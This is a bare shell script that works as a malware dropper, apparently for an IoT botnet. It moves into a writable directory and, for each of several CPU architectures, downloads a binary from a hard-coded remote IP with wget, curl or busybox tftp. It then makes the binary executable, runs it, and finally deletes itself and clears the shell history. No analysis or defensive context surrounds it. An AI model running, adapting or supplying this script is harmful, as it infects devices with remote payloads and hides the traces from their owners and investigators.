#!/bin/sh
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
for a in x86 mips mpsl arm5 arm7 ppc sh4 aarch64; do
  wget -q http://198.51.100.66/bins/$a -O .s || curl -s -O .s http://198.51.100.66/bins/$a || busybox tftp -g -r $a -l .s 198.51.100.66
  chmod 777 .s
  ./.s "$1" && break
  rm -f .s
done
rm -f "$0"
history -c
